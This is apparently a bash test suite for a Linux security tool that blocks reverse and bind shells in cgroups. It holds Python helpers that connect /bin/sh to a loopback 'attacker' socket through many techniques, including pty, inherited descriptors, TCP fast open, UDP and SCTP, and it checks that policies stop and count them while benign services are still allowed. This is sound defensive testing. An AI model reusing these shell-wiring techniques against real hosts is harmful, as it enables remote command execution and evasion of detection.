# SPDX-License-Identifier: GPL-2.0-only
# Shells whose input is one thing and whose answers go elsewhere: over a connection
# of their own, with a terminal as the script, with datagrams as the input.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: says what it was told to, and what came back.
cat >attacker.py <<'END'
import socket, sys
s = socket.create_server(("127.0.0.1", 4340))
print("ready", flush=True)
s.settimeout(int(sys.argv[1]))
data = b""
try:
    c = s.accept()[0]
    c.settimeout(int(sys.argv[1]))
    c.sendall(b"[ -e /dev/fd/7 ] && exec >&7 2>&1; echo GOT$((40+2))\n")
    while b"GOT42" not in data:
        new = c.recv(4096)
        if not new:
            break
        data += new
except OSError:
    pass
print("owned" if b"GOT42" in data else "nothing", flush=True)
END

# Descriptor 7 is the connection, of which the shell's input is not the end.
cat >own.py <<'END'
import os, pty, select, socket, subprocess, sys, time
what = sys.argv[1]
s = socket.socket()
if what != "fastopen":
    s.connect(("127.0.0.1", 4340))
os.dup2(s.fileno(), 7)
null = subprocess.DEVNULL
def sh(*args, **also):
    also = {"stdout": null, "stderr": null, "pass_fds": [7], **also}
    return subprocess.Popen(["/bin/sh", *args], **also)
def relay(write):
    while d := s.recv(4096):
        write(d)
if what == "shell_first":
    p = sh(stdin=subprocess.PIPE, bufsize=0)
    relay(p.stdin.write)
elif what == "each_anew":
    while d := s.recv(4096):
        sh(stdin=subprocess.PIPE).communicate(d)
elif what == "between":
    r, w = os.pipe()
    cat = subprocess.Popen(["/usr/bin/cat"], stdin=r, stdout=subprocess.PIPE)
    p = sh(stdin=cat.stdout)
    relay(lambda d: os.write(w, d))
elif what == "away":
    # What it says to begin with goes to somebody without a connection.
    sink = subprocess.Popen(["/usr/bin/cat"], stdin=subprocess.PIPE, stdout=null)
    p = sh(stdin=subprocess.PIPE, stdout=sink.stdin, bufsize=0)
    relay(p.stdin.write)
elif what == "terminal":
    # The answers go to the terminal, too; descriptor 0 is something else.
    m, t = pty.openpty()
    p = sh(os.ttyname(t), stdin=null)
    relay(lambda d: os.write(m, d))
elif what == "fastopen":
    # Sending connects it, and what comes is not received but moved.
    p = sh(stdin=subprocess.PIPE, stdout=subprocess.PIPE, pass_fds=[], bufsize=0)
    time.sleep(1)
    s.sendto(b"hello", socket.MSG_FASTOPEN, ("127.0.0.1", 4340))
    while True:
        for f in select.select([s, p.stdout], [], [])[0]:
            to = p.stdin if f is s else s
            if not os.splice(f.fileno(), to.fileno(), 4096):
                sys.exit()
elif what == "left_cat":
    # The connection is left in all; what feeds the shell has it as its input.
    p = sh("-c", "cat <&7 | /bin/sh", stdin=null, stdout=subprocess.PIPE)
    while d := os.read(p.stdout.fileno(), 4096):
        s.sendall(d)
elif what.startswith("left"):
    if what == "left_beside" and not os.fork():
        # Somebody else receives all the time.
        server = socket.create_server(("127.0.0.1", 4346))
        a = socket.create_connection(("127.0.0.1", 4346))
        b = server.accept()[0]
        while True:
            a.send(b"x")
            b.recv(1)
            time.sleep(0.02)
    # Who starts the shell and who feeds it have the connection from who made it.
    if os.fork():
        os.wait()
        sys.exit()
    p = sh(stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
    if not os.fork():
        time.sleep(1.5)
        relay(p.stdin.write)
        sys.exit()
    while d := os.read(p.stdout.fileno(), 4096):
        s.sendall(d)
elif what == "dev_tty":
    m, t = pty.openpty()
    if not os.fork():
        os.setsid()
        os.close(os.open(os.ttyname(t), os.O_RDWR))
        os.close(m)
        p = sh("/dev/tty", stdin=null)
        p.wait()
        sys.exit()
    relay(lambda d: os.write(m, d))
END

patience=40
# attack COMMAND...: in the cgroup, against an attacker that listens
attack() {
	$python attacker.py $patience >attacker.out 2>&1 &
	poll grep -q ready attacker.out
	timeout 60 /opt/csec/bin/cgexec "$cg" "$@" </dev/null >attack.out 2>&1 &
	local pid=$!
	poll grep -qE 'owned|nothing' attacker.out
	kill $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	wait $pid 2>/dev/null
	cat attacker.out
}

attacks=(shell_first each_anew between away terminal dev_tty fastopen
	left_cat left left_beside)
for name in "${attacks[@]}"; do
	contains "without a policy: $name" owned attack $python "$dir/own.py" $name
done

policy=own
cg=$(cgroup deny)
govern own "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END
patience=20
for name in "${attacks[@]}"; do
	before=$(counter own reverse_shell)
	lacks "$name: is stopped" owned attack $python "$dir/own.py" $name
	at_least "$name: is counted" $((before + 1)) "$(counter own reverse_shell)"
done

# What looks alike. A service that leaves its connections open in all that it starts
# goes on to receive meanwhile.
cat >service.py <<'END'
import os, socket, subprocess, sys, threading, time
def listen(port):
    server = socket.create_server(("127.0.0.1", port))
    def serve(c):
        while c.recv(1):
            c.sendall(b"row")
    def accept():
        while True:
            threading.Thread(target=serve, args=[server.accept()[0]], daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()
listen(4341)
s = socket.create_connection(("127.0.0.1", 4341))
# Not one of the next: a thread that waits in accept() has its own already.
os.dup2(s.fileno(), 40)
os.set_inheritable(40, True)
def ask():
    s.sendall(b"?")
    return s.recv(10) == b"row"
ask()
open("list", "w").write("echo one-$((40+2))\n")
open("script", "w").write("#!/bin/sh\ncat list | while read -r l; do sleep 1; echo \"$l\" >>said; done\ncat list | sh\n")
os.chmod("script", 0o755)
for command in (["/bin/sh", "-c", "cat list | sh"],
                ["/bin/sh", "-c", "(cat list; sleep 2) | /bin/sh >said"],
                ["/bin/sh", "-c", "(cat list; sleep 2) | while read -r l; do echo $l; done"],
                ["./script"], ["/bin/sh", "script"]):
    p = subprocess.Popen(command, stdin=subprocess.DEVNULL, close_fds=False)
    while p.poll() is None:
        if not ask():
            sys.exit("no row")
        time.sleep(0.05)
    if p.returncode:
        sys.exit(f"{command}: {p.returncode}")
# And takes what that says.
for command, wanted in (("(echo 'echo gen-$((40+2))'; sleep 2) | /bin/sh", "gen-42"),
                        ("(echo 42; sleep 2; echo 43) | while read -r l; do echo loop-$l; done", "loop-43"),
                        ("exec bash -c 'while read -r l; do echo own-$l; done < <(echo 42; sleep 2; echo 43)'", "own-43")):
    for beats in (False, True):
        p = subprocess.Popen(command, shell=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             close_fds=False, text=True)
        while beats and p.poll() is None:
            if not ask():
                sys.exit("no row")
            time.sleep(0.05)
        if wanted not in p.stdout.read():
            sys.exit(f"{command}: not {wanted}")
        p.wait()
print("all-ran")
END
allowed 'a service whose connection is open in all that it starts' in_cgroup "$cg" $python "$dir/service.py"
contains 'ran all of it' all-ran echo "$out"

# Whose connection the exec closes gives the shell none; whoever leaves it open does.
cat >feeds.py <<'END'
import os, socket, subprocess, sys
server = socket.create_server(("127.0.0.1", 4347))
if not os.fork():
    c = server.accept()[0]
    while data := c.recv(100):
        c.sendall(data)
    os._exit(0)
server.close()
s = socket.create_connection(("127.0.0.1", 4347))
s.set_inheritable(sys.argv[1] == "kept")
s.sendall(b"?")
s.recv(1)
subprocess.run(["/bin/sh"], input=b"echo fed-$((40+2))\n", close_fds=False)
END
allowed 'a connection that the exec closes' in_cgroup "$cg" $python "$dir/feeds.py" closed
contains 'the shell was fed' fed-42 echo "$out"
denied 'one that it leaves open' reverse_shell 'Permission denied' in_cgroup "$cg" $python "$dir/feeds.py" kept

# inetd: the accepted connection is what the script has, and all that it starts.
cat >inetd.py <<'END'
import os, socket, subprocess, sys
server = socket.create_server(("127.0.0.1", 4342))
c = socket.create_connection(("127.0.0.1", 4342))
s = server.accept()[0]
p = subprocess.Popen(["./answer"], stdin=s, stdout=s, stderr=s)
for i in range(20):
    c.sendall(b"line\n")
    if c.recv(100) != b"got line\n":
        sys.exit("refused")
c.shutdown(socket.SHUT_WR)
print("all-ran" if not p.wait() else "refused")
END
printf '#!/bin/sh\ncat | while read -r l; do echo "got $l"; done\n' >answer
chmod 755 answer
allowed 'inetd: a script whose part answers' in_cgroup "$cg" $python "$dir/inetd.py"
contains 'ran all of it' all-ran echo "$out"

# Datagrams of anybody. Shells read byte by byte, so each has one.
cat >datagrams.py <<'END'
import os, socket, subprocess, sys, time
what = sys.argv[1]
if what.startswith("sctp"):
    s = socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, socket.IPPROTO_SCTP)
    s.bind(("127.0.0.1", 4343))
    s.listen()
    c = socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, socket.IPPROTO_SCTP)
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 4343))
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.dup2(s.fileno(), 7)
args, stdin, kind = {
    "udp": (["/bin/sh"], s, subprocess.PIPE),
    "sctp": (["/bin/sh"], s, subprocess.PIPE),
    "later": (["/bin/sh"], subprocess.PIPE, None),
    "line": (["/bin/sh", "-c", 'while read -r l; do eval "$l"; done'], s, None),
    "read_u": (["/bin/bash", "-c", 'while read -r -u 7 l; do eval "$l"; done'], subprocess.DEVNULL, None),
    # What looks alike: as a supervisor starts a service of datagrams.
    "script": (["./script"], s, None),
    "cat": (["/bin/sh", "-c", "exec /usr/bin/head -c 1 >took"], s, None),
}[what]
p = subprocess.Popen(args, stdin=stdin, pass_fds=[7], bufsize=0)
if what == "later":
    p.stdin.write(b"exec <&7\n")
for b in b"echo took-$((40+2)) >took\nexit\n":
    c.sendto(bytes([b]), ("127.0.0.1", 4343))
    time.sleep(0.01)
try:
    p.wait(10)
except subprocess.TimeoutExpired:
    p.kill()
END
printf '#!/bin/sh\nread -r l\neval "$l"\n' >script
chmod 755 script
datagrams() {
	rm -f took
	in_cgroup "$cg" $python "$dir/datagrams.py" $1
	cat took
}
modprobe -q sctp
kinds=(udp later line read_u)
if $python -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, socket.IPPROTO_SCTP)'; then
	kinds+=(sctp)
else
	skip 'a shell on SCTP' 'this kernel has none here'
fi
cg=$(cgroup free)
for name in "${kinds[@]}"; do
	contains "without a policy: $name" took-42 datagrams $name
done
cg=$(cgroup deny)
for name in "${kinds[@]}"; do
	before=$(counter own bind_shell)
	lacks "$name: is stopped" took-42 datagrams $name
	at_least "$name: is counted" $((before + 1)) "$(counter own bind_shell)"
done
allowed 'a service of datagrams that is a script' datagrams script
contains 'and takes its commands' took-42 echo "$out"
allowed 'one that a shell starts' datagrams cat
contains 'and receives' e echo "$out"

# What connects by sending: python stands for a shell that can.
fastopen='
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family)
s.sendto(b"hello", socket.MSG_FASTOPEN, (sys.argv[1], 4344))'
server='
import socket
s = socket.create_server(("::", 4344), family=socket.AF_INET6, dualstack_ipv6=True)
while True:
    s.accept()[0].close()'
$python -c "$server" &
poll bash -c "ss -Hltn 'sport = :4344' | grep -q ."
for address in 127.0.0.1 ::1; do
	allowed "a program connects by sending: $address" in_cgroup "$cg" $python -c "$fastopen" $address
done
govern own "$cg" <<<'shells: {connect: deny, class: [/usr/bin/python3*]}'
for address in 127.0.0.1 ::1; do
	denied "a shell does not: $address" shell_connect 'Permission denied' in_cgroup "$cg" $python -c "$fastopen" $address
	equals "the event has the port: $address" 4344 "$(field peer_port)"
done
govern own "$cg" <<<'shells: {reverse: deny, class: [/usr/bin/python3*]}'
allowed 'a shell that may connect may by sending' in_cgroup "$cg" $python -c "$fastopen" 127.0.0.1

# Who waits for a peer that does not answer keeps nobody from changing policies.
waits='
import socket
s = socket.create_server(("127.0.0.1", 4345), backlog=0)
for _ in range(2):
    c = socket.socket()
    c.setblocking(False)
    c.connect_ex(("127.0.0.1", 4345))
    globals()[f"c{_}"] = c
print("full", flush=True)
socket.socket().sendto(b"hello", socket.MSG_FASTOPEN, ("127.0.0.1", 4345))'
waits() { grep -qsE 'inet_(wait_for|stream)_connect' /proc/[0-9]*/stack; }
in_cgroup "$cg" $python -c "$waits" >full &
poll grep -q full full
eventually 'it waits' waits
ok 'its policy goes meanwhile' timeout 30 csecctl policy delete own
ok 'and it still waits' waits
